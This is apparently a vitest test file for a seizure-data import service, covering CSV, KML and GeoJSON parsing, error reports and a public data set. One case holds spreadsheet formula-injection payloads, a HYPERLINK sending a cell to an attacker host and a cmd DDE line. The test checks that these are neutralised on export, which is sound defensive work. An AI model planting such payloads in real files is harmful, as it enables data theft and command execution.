/**
 * The shared import cases (cases/import/*, expected.json): every value expected.json lists is
 * asserted, plus what the brief adds per case (guessed German headers, the KML MultiGeometry
 * warning, unmapped GeoJSON features, verbatim and neutralised formula cells), and the public
 * data set imports whole.
 */
import { describe, expect, it } from 'vitest';
import { parseImportFile, seizuresToCsv, type ParsedImport } from '../../../service/import';
import type { Seizure, SeizureFields } from '../../../shared/domain/seizure';
import { caseBytes, expectedCases, publicCsvBytes } from './fixtures';

const expected = expectedCases();
const SNAKE_TO_FIELD: Record<string, keyof SeizureFields> = {
  seizure_date: 'seizureDate',
  country: 'country',
  latitude: 'latitude',
  longitude: 'longitude',
  quantity: 'quantity',
  unit: 'unit',
  reported_value: 'reportedValue',
};
/** Keys of expected rows that identify the row or explain it rather than name a field. */
const NOT_FIELDS = new Set(['line', 'index', 'name', 'note', 'tolerance_deg']);

/** Asserts every field value an expected row lists. */
function assertRow(fields: SeizureFields, row: Record<string, unknown>): void {
  const tolerance = typeof row.tolerance_deg === 'number' ? row.tolerance_deg : 0;
  for (const [key, want] of Object.entries(row)) {
    if (NOT_FIELDS.has(key)) continue;
    const field = SNAKE_TO_FIELD[key];
    expect(field, `expected.json key ${key} is known to the test`).toBeDefined();
    const got = fields[field!];
    if (tolerance && typeof want === 'number' && (field === 'latitude' || field === 'longitude')) {
      expect(Math.abs((got as number) - want), `${key}: ${String(got)} vs ${want}`).toBeLessThanOrEqual(tolerance);
    } else expect(got, key).toEqual(want);
  }
}

function byLine(parsed: ParsedImport, line: number): SeizureFields {
  const s = parsed.seizures.find((x) => x.line === line);
  expect(s, `a seizure from line ${line}`).toBeDefined();
  return s!.fields;
}

function run(input: string, extra: Partial<Parameters<typeof parseImportFile>[0]> = {}): ParsedImport {
  return parseImportFile({ fileName: input, bytes: caseBytes(input), ...extra });
}

/** The counts and rows of a CSV case, exactly as expected.json lists them. */
function assertCsvCase(parsed: ParsedImport, input: string): void {
  const e = expected.get(input)!.expect;
  expect(parsed.report.imported).toBe(e.imported);
  expect(parsed.seizures).toHaveLength(e.imported!);
  if (e.rejected !== undefined) expect(parsed.report.rejectedRows).toBe(e.rejected);
  if (e.skipped_blank !== undefined) expect(parsed.report.skippedBlank).toBe(e.skipped_blank);
  for (const row of e.rows ?? []) assertRow(byLine(parsed, row.line as number), row);
}

describe('cases/import', () => {
  it('01: German export (BOM, ";", decimal comma, DD.MM.YYYY) is mapped by the guesser', () => {
    const parsed = run('01-semicolon-decimal-comma.csv');
    expect(parsed.mappingSource).toBe('guessed');
    expect(parsed.encoding).toBe('utf-8');
    expect(parsed.delimiter).toBe(';');
    expect(parsed.headers[0]).toBe('Datum'); // BOM stripped
    expect(parsed.mapping).toEqual({
      Datum: 'seizureDate', Land: 'country', Ort: 'place', Breite: 'latitude', 'Länge': 'longitude',
      Ware: 'commodity', Menge: 'quantity', Einheit: 'unit', Wert: 'reportedValue', 'Währung': 'reportedCurrency',
    });
    assertCsvCase(parsed, '01-semicolon-decimal-comma.csv');
    expect(parsed.report.rejected).toEqual([]);
    expect(byLine(parsed, 2).reportedValue).toBe(17600000);
    expect(byLine(parsed, 2).reportedCurrency).toBe('SGD');
    expect(byLine(parsed, 3).quantity).toBe(12.9);
    expect(byLine(parsed, 4).reportedCurrency).toBeNull();
    expect(parsed.sampleRows[0]).toEqual(['21.07.2019', 'SG', 'Pasir Panjang', '1,274', '103,764', 'Elfenbein', '8,8', 't', '17600000', 'SGD']);
  });

  it('01: also works with the explicit mapping the user picks in the dialog', () => {
    const mapping = {
      Datum: 'seizureDate', Land: 'country', Ort: 'place', Breite: 'latitude', 'Länge': 'longitude',
      Ware: 'commodity', Menge: 'quantity', Einheit: 'unit', Wert: 'reportedValue', 'Währung': 'reportedCurrency',
    } as const;
    const parsed = run('01-semicolon-decimal-comma.csv', { mapping: { ...mapping }, defaults: { sector: 'wildlife' } });
    expect(parsed.mappingSource).toBe('given');
    assertCsvCase(parsed, '01-semicolon-decimal-comma.csv');
    expect(parsed.seizures.every((s) => s.fields.sector === 'wildlife')).toBe(true);
    expect(parsed.report.warnings).toEqual([
      // The German names are not in the curated commodity list: said once, kept as written (service/import/commodity-check.ts).
      '3 rows name a commodity not in the commodity list, kept as written: “Schuppentier-Schuppen” (2 rows), “Elfenbein” (1 row). An admin can add recurring names to the workspace’s list (Commodities).',
    ]);
  });

  it('02: degrees-minutes-seconds, hemisphere letters and thousands separators', () => {
    const parsed = run('02-dms-coordinates.csv');
    assertCsvCase(parsed, '02-dms-coordinates.csv');
    expect(parsed.report.rejected).toEqual([]);
  });

  it('03: quantity and unit in one cell', () => {
    const parsed = run('03-quantity-with-units.csv');
    expect(parsed.mapping.amount).toBe('quantityWithUnit');
    assertCsvCase(parsed, '03-quantity-with-units.csv');
    expect(parsed.report.rejected).toEqual([]);
  });

  it('04: Excel serial day numbers', () => {
    const parsed = run('04-excel-serial-dates.csv');
    assertCsvCase(parsed, '04-excel-serial-dates.csv');
    expect(parsed.seizures.map((s) => s.fields.datePrecision)).toEqual(['day', 'day', 'day']);
  });

  it('05: bad rows are reported by line, column and field; the good ones are imported', () => {
    const parsed = run('05-bad-rows.csv');
    const e = expected.get('05-bad-rows.csv')!.expect;
    assertCsvCase(parsed, '05-bad-rows.csv');
    expect(parsed.seizures.map((s) => s.line)).toEqual([2, 8]);
    // expected.json names the file's columns as "field": compare with `column`.
    expect(parsed.report.rejected.map((r) => ({ line: r.line, field: r.column }))).toEqual(e.rejections);
    expect(parsed.report.rejected.map((r) => [r.field, r.value])).toEqual([
      ['seizureDate', '2019-13-40'],
      ['latitude', '123.5'],
      ['country', 'XX'],
      ['quantity', '-5'],
      ['unit', 'furlongs'],
    ]);
    expect(parsed.report.rejected.map((r) => r.reason)).toEqual([
      "'2019-13-40' is not a real date",
      'must be between -90 and 90 degrees',
      "'XX' is not an ISO 3166-1 country code",
      'must be greater than zero',
      "unknown unit 'furlongs' (use one of g, kg, t, l, m3, pieces, head, containers)",
    ]);
  });

  it('06: KML placemarks, a MultiGeometry and a LineString route', () => {
    const e = expected.get('06-placemarks.kml')!.expect;
    const parsed = run('06-placemarks.kml', { defaults: { country: 'KE', sector: 'forestry' } });
    expect(parsed.format).toBe('kml');
    expect(parsed.mappingSource).toBe('fixed');
    expect(parsed.delimiter).toBe('');
    expect(parsed.seizures).toHaveLength(e.seizures!);
    expect(parsed.report.imported).toBe(e.seizures);
    expect(parsed.routes).toHaveLength(e.routes!);
    expect(parsed.report.routes).toBe(e.routes);
    expect(parsed.report.rejected).toEqual([]);

    const [rosewood, ivory] = e.rows!;
    const named = (name: string) => parsed.seizures.find((s) => s.fields.commodity === name || s.fields.notes.includes(`name: ${name}`));
    const r = named(rosewood!.name as string)!;
    expect(r.line).toBe(1); // placemark 1
    assertRow(r.fields, rosewood!);
    expect(r.fields.commodity).toBe('rosewood logs');
    expect(r.fields.notes).toBe('Container declared as plastic granules\nname: Rosewood container');

    // Rosewood's commodity is stated (ExtendedData): nothing to review.
    expect(r.review).toBeUndefined();

    const i = named(ivory!.name as string)!;
    expect(i.line).toBe(2);
    // No commodity data: the placemark's label is read as the commodity, imported flagged, never as a stated fact.
    expect(i.fields.commodity).toBe('Ivory cache');
    expect(i.review).toEqual([{ kind: 'commodity-from-label', label: 'name' }]);
    expect(parsed.report.flagged).toEqual([
      {
        line: 2, column: 'name', field: 'commodity', value: 'Ivory cache',
        reason: 'the commodity was read from the feature’s label “name” (the file has no commodity data): imported and flagged for review',
        fix: 'add a commodity field (ExtendedData “commodity”) to the placemarks, or check the seizure after the import and mark it as reviewed',
      },
    ]);
    expect([i.fields.latitude, i.fields.longitude]).toEqual([-4.03, 39.7]); // the first point
    expect(i.fields.seizureDate).toBe('2021-03-12'); // from 2021-03-12T09:30:00Z
    expect(parsed.report.warnings).toContain('Placemark 2 (Ivory cache): a group of 2 points became one seizure at its first point.');

    expect(parsed.routes[0]!.name).toBe(e.route!.name);
    expect(parsed.routes[0]!.points).toHaveLength(e.route!.points);
    expect(parsed.routes[0]!.points).toEqual([[-3.4, 29.3], [-1.3, 36.8], [-4.05, 39.6667]]);
  });

  it('06: without a country for the placemarks, the rows are reported, not guessed', () => {
    const parsed = run('06-placemarks.kml');
    expect(parsed.report.imported).toBe(0);
    expect(parsed.report.rejected).toEqual([
      { line: 1, column: '', field: 'country', value: '', reason: 'is required', fix: 'add the country to the placemark in the file and import it again' },
      { line: 2, column: '', field: 'country', value: '', reason: 'is required', fix: 'add the country to the placemark in the file and import it again' },
    ]);
    expect(parsed.routes).toHaveLength(1);
  });

  it('07: GeoJSON features; one without geometry is kept as unmapped', () => {
    const e = expected.get('07-features.geojson')!.expect;
    const parsed = run('07-features.geojson');
    expect(parsed.format).toBe('geojson');
    expect(parsed.report.imported).toBe(e.imported);
    expect(parsed.report.unmapped).toBe(1);
    expect(parsed.report.rejected).toEqual([]);
    for (const row of e.rows!) {
      // The fixtures' index counts features from 0; the report numbers them from 1.
      const s = parsed.seizures.find((x) => x.line === Number(row.index) + 1);
      expect(s, `feature ${String(row.index)}`).toBeDefined();
      assertRow(s!.fields, row);
    }
    expect(parsed.headers).toEqual(['seizure_date', 'commodity', 'quantity', 'unit', 'country_iso2']);
    expect(parsed.seizures[2]!.fields).toMatchObject({ country: 'VN', quantity: 3500, unit: 'kg', seizureDate: '2018-03-05' });
  });

  it('08: formula-like cells are imported verbatim and neutralised on export', () => {
    const e = expected.get('08-formula-injection.csv')!.expect;
    const parsed = run('08-formula-injection.csv');
    expect(parsed.report.imported).toBe(e.imported);
    const notes = parsed.seizures.map((s) => s.fields.notes);
    expect(notes).toEqual(['=HYPERLINK("http://attacker.invalid/?x="&A1,"open")', "+cmd|' /C calc'!A0", '@SUM(1+1)']);

    const stored: Seizure[] = parsed.seizures.map((s, i) => ({
      ...s.fields, id: `00000000-0000-4000-8000-00000000000${i}`, createdBy: 'm', createdAt: 0, updatedBy: 'm', updatedAt: 0,
    }));
    const csv = seizuresToCsv(stored);
    const lines = csv.split('\r\n');
    expect(lines[1]).toBe(`2019-07-21,day,SG,,,,,other,elephant ivory,,8.8,t,,,,,,,,,,"'=HYPERLINK(""http://attacker.invalid/?x=""&A1,""open"")",,,,,,,`);
    expect(lines[2]).toBe(`2019-04-03,day,SG,,,,,other,pangolin scales,,12.9,t,,,,,,,,,,'+cmd|' /C calc'!A0,,,,,,,`);
    expect(lines[3]).toBe(`2018-03-05,day,VN,,,,,other,pangolin scales,,3500,kg,,,,,,,,,,'@SUM(1+1),,,,,,,`);
  });
});

describe('seizures-public.csv', () => {
  const parsed = parseImportFile({ fileName: 'seizures-public.csv', bytes: publicCsvBytes() });

  it('imports all 59 seizures with no rejection, its own columns mapped without guessing', () => {
    expect(parsed.report.imported).toBe(59);
    expect(parsed.report.rejected).toEqual([]);
    expect(parsed.report.rejectedRows).toBe(0);
    expect(parsed.report.skippedBlank).toBe(0);
    // Names the curated list has no entry for (its elephant ivory wordings are listed since the
    // tester's finding; equipment and one-off descriptions are not): one warning names them.
    expect(parsed.report.warnings).toHaveLength(3);
    expect(parsed.report.warnings[0]).toMatch(/^27 rows name a commodity not in the commodity list, kept as written: “excavators used for illegal gold mining” \(2 rows\), .* and 18 more\./);
    // Taxa against the bundled species list (tester s28 B6), a ";" list checked taxon by taxon;
    // the file declares no appendix, so the list's appendices are named, not stored.
    expect(parsed.report.warnings[1]).toMatch(/^14 rows name a taxon not in the bundled species list \(CITES appendices valid from 25 November 2023\), kept as written: “Elephantidae” \(8 rows\), “Haliotis midae” \(2 rows\), “Alopias spp\.” \(1 row\), /);
    expect(parsed.report.warnings[2]).toMatch(/^17 rows name taxa of the bundled species list .* Dalbergia spp\. \(4 rows\): Appendix II or another, split listing: check Species\+ for the population; Smutsia gigantea \(3 rows\): Appendix I; /);
    expect(parsed.seizures.every((s) => s.fields.citesAppendix === null)).toBe(true);
    expect(parsed.mappingSource).toBe('fixed');
    expect(parsed.delimiter).toBe(',');
    expect(Object.values(parsed.mapping)).not.toContain('ignore');
  });

  it('reads P01 as the data set states it', () => {
    const p01 = parsed.seizures[0]!;
    expect(p01.line).toBe(2);
    expect(p01.fields).toMatchObject({
      seizureDate: '2019-07-21', datePrecision: 'day', country: 'SG', latitude: 1.274, longitude: 103.764, locationPrecision: 'port',
      sector: 'wildlife', commodity: 'pangolin scales', taxon: 'Smutsia gigantea', quantity: 11.9, unit: 't',
      originCountries: ['CD'], transitCountries: ['SG'], destinationCountries: ['VN'],
      seizingAgencies: ['National Parks Board (NParks)', 'Singapore Customs', 'Immigration & Checkpoints Authority (ICA)'],
      reportedValue: 48600000, reportedCurrency: 'SGD', operation: '',
      sourceUrl: 'https://www.straitstimes.com/singapore/record-88-tonnes-of-ivory-worth-176m-seized',
      sourceTitle: 'Record 8.8 tonnes of ivory worth $17.6m seized',
    });
  });

  it('accepts every unit, sector and precision the data set uses, and splits ;-lists', () => {
    const units = new Set(parsed.seizures.map((s) => s.fields.unit));
    expect([...units].sort()).toEqual(['containers', 'head', 'kg', 'm3', 'pieces', 't']);
    const sectors = parsed.seizures.map((s) => s.fields.sector);
    expect(sectors.filter((s) => s === 'wildlife')).toHaveLength(20);
    expect(sectors.filter((s) => s === 'forestry')).toHaveLength(9);
    expect(sectors.filter((s) => s === 'ods')).toHaveLength(7);
    expect(parsed.seizures.some((s) => s.fields.originCountries.join(';') === 'AU;US;CA;SA;JP;CN;BD')).toBe(true);
    expect(new Set(parsed.seizures.map((s) => s.fields.datePrecision))).toEqual(new Set(['day', 'month', 'year']));
    expect(parsed.seizures.filter((s) => s.fields.reportedValue === null).every((s) => s.fields.reportedCurrency === null)).toBe(true);
  });
});
